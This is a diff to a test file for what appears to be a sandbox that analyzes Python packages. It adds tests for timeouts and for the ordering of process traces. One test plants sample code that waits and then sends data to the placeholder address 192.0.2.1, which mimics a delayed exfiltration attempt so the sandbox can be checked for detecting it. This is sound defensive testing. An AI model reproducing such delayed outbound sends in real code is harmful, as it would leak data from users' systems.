@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import asyncio
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from analyzer.sandbox.client import RunOutcome
 from analyzer.sandbox.protocol import VARIATIONS, PhaseResult
+from analyzer.trace.decode import decode_trace
+from models.trace import EventKind
 from tests.analyzer.sandbox.lab import GUARD, Lab, lines, output, wheel
 
 pytestmark = pytest.mark.privileged
@@ -361,3 +364,37 @@ async def test_slots__two_runs_at_once_have_their_own_arguments_and_events(lab: 
         assert line["canaries"] == [planted[index]]
         account = outcome.result.account
         assert account["emitted"] == account["received"] == account["stored"] > 0
+
+
+async def test_import__that_hangs_leaves_time_for_what_comes_later(lab: Lab) -> None:
+    code = SEND + "import time\nif HARNESS:\n    time.sleep(30)\n    _send('192.0.2.1', 'x')\n"
+    phases = ("P1", "P3", "P4", "P5")
+    outcome = await lab.run_code(code, phases=phases, variations=("clock",), budget_ms=12_000)
+
+    assert [p.phase for p in outcome.result.phases] == list(phases)
+    assert phase_of(outcome, "P3").ended == "timeout"
+    assert talks(outcome) == ["192.0.2.1"]
+
+
+@pytest.mark.parametrize("way", ["userns", "setpriv"])
+async def test_trace__begins_with_the_first_process_of_the_package(
+    fresh_dir: str, way: str
+) -> None:
+    made = Lab(Path(fresh_dir), way=way)
+    try:
+        outcome = await made.run(
+            wheel("reenact_plain", {"reenact_plain.py": "def f(x):\n    return x\n"}),
+            phases=ALL,
+        )
+    finally:
+        assert made.stop() == (0, "")
+    blobs, phases = outcome.blobs, outcome.result.phases
+    for phase in phases[2:]:
+        events = [
+            event for event in decode_trace(blobs["trace"], phases) if event.phase == phase.phase
+        ]
+        first = next(event for event in events if event.kind is EventKind.EXEC)
+        assert first == events[0], phase.phase
+        assert first.path.startswith("/env/bin/python"), phase.phase
+        paths = {event.path for event in events}
+        assert not any(path.endswith(("use.py", "wait.py", "imports.py")) for path in paths)
